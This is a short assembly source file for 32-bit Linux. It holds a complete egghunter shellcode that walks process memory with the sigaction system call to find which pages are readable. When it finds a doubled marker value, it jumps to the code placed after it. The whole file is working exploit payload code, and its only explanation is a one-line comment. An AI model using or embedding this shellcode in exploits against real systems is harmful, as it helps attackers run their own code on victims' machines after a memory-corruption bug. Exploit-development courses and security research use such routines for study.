; Linux, 32 bit: walks through memory with sigaction(), which says which pages are there, until it finds its mark twice.
bits 32
page:   or cx, 0xfff
next:   inc ecx
        push byte 67
        pop eax
        int 80h
        cmp al, 0xf2
        je page
        mov eax, 0x50905090
        mov edi, ecx
        scasd
        jne next
        scasd
        jne next
        jmp edi
